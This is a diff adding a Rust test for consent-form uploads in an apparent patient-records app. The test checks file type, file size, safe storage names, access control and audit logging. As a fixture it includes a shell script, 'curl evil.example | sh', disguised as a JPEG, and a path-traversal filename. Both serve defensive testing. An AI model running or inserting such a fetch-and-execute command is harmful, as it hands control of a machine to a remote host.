@@ -517,3 +517,104 @@ async fn the_same_person_at_two_facilities_links_through_the_index() {
     })
     .await;
 }
+
+#[tokio::test]
+async fn signed_consent_form_is_checked_by_content() {
+    each_backend(|app| async move {
+        let (doctor, _) = app.sign_in("doctor1").await;
+        let token = csrf(&app, &doctor).await;
+        let res = doctor
+            .post(app.url("/patients/new"))
+            .form(&registration(&token, "F-1"))
+            .send()
+            .await
+            .unwrap();
+        let person = res.headers()["location"]
+            .to_str()
+            .unwrap()
+            .trim_start_matches("/patients/")
+            .split('?')
+            .next()
+            .unwrap()
+            .to_string();
+        let res = doctor
+            .post(app.url(&format!("/patients/{person}/consent")))
+            .form(&[
+                ("csrf", token.as_str()),
+                ("scope", "comprehensive"),
+                ("form", "written"),
+                ("signer", "patient"),
+            ])
+            .send()
+            .await
+            .unwrap();
+        assert_eq!(res.status(), 303);
+        let page = doctor
+            .get(app.url(&format!("/patients/{person}/consent")))
+            .send()
+            .await
+            .unwrap()
+            .text()
+            .await
+            .unwrap();
+        let consent_id =
+            testkit::between(&page, &format!("/patients/{person}/consent/"), "/form").unwrap();
+        let url = app.url(&format!("/patients/{person}/consent/{consent_id}/form"));
+        let upload = |bytes: Vec<u8>, name: &'static str| {
+            let form = reqwest::multipart::Form::new()
+                .text("csrf", token.clone())
+                .part(
+                    "file",
+                    reqwest::multipart::Part::bytes(bytes)
+                        .file_name(name)
+                        .mime_str("image/jpeg")
+                        .unwrap(),
+                );
+            doctor.post(url.clone()).multipart(form).send()
+        };
+        // A script dressed up as a photo is refused; nothing stored.
+        let res = upload(
+            b"#!/bin/sh\ncurl evil.example | sh\n".to_vec(),
+            "同意書.jpg",
+        )
+        .await
+        .unwrap();
+        assert_eq!(res.status(), 400);
+        assert_eq!(doctor.get(url.clone()).send().await.unwrap().status(), 404);
+        // Oversized.
+        let mut big = b"%PDF-1.7\n".to_vec();
+        big.resize(6 * 1024 * 1024, b'0');
+        let res = upload(big, "big.pdf").await.unwrap();
+        assert!(
+            res.status() == 400 || res.status() == 413,
+            "{}",
+            res.status()
+        );
+        // A real PDF, renamed oddly, is stored under a safe name and comes back byte for byte.
+        let pdf = b"%PDF-1.4\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF\n".to_vec();
+        let res = upload(pdf.clone(), "../../同意書\".jpg").await.unwrap();
+        assert_eq!(res.status(), 303);
+        let got = doctor.get(url.clone()).send().await.unwrap();
+        assert_eq!(got.headers()["content-type"], "application/pdf");
+        assert!(got.headers()["content-disposition"]
+            .to_str()
+            .unwrap()
+            .contains(".pdf"));
+        assert_eq!(got.bytes().await.unwrap().to_vec(), pdf);
+        // Outsiders cannot fetch it.
+        let (other, _) = app.sign_in("otherdoc").await;
+        assert_eq!(other.get(url.clone()).send().await.unwrap().status(), 404);
+        let audit = app
+            .store
+            .search_audit(&AuditQuery {
+                action_prefix: Some("consent.form_upload".into()),
+                patient_id: Some(person.clone()),
+                limit: 5,
+                ..Default::default()
+            })
+            .await
+            .unwrap();
+        assert_eq!(audit.len(), 1);
+    })
+    .await;
+}
